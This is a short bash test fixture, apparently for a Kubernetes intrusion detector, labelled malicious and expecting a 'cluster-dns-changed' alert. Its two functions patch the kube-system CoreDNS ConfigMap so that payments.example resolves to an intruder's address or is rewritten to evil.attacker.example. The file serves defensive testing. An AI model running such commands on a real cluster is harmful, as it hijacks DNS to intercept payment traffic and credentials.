# shellcheck shell=bash disable=SC2154
# what: a name is answered with an address of the intruder's.
# label: malicious
# expects: [cluster-dns-changed]
# allows: [cluster-resource-changed, system-configmap-changed]
develop() { intruder -n kube-system patch configmap coredns --type=merge -p '{"data":{"Corefile":".:53 {\n hosts {\n 203.0.113.77 payments.example\n fallthrough\n }\n forward . /etc/resolv.conf\n}\n"}}'; }
hold_out() { intruder -n kube-system get configmap coredns -o json | jq '.data.Corefile = ".:53 {\n rewrite name payments.example evil.attacker.example\n forward . 203.0.113.77\n}\n"' | intruder replace -f -; }
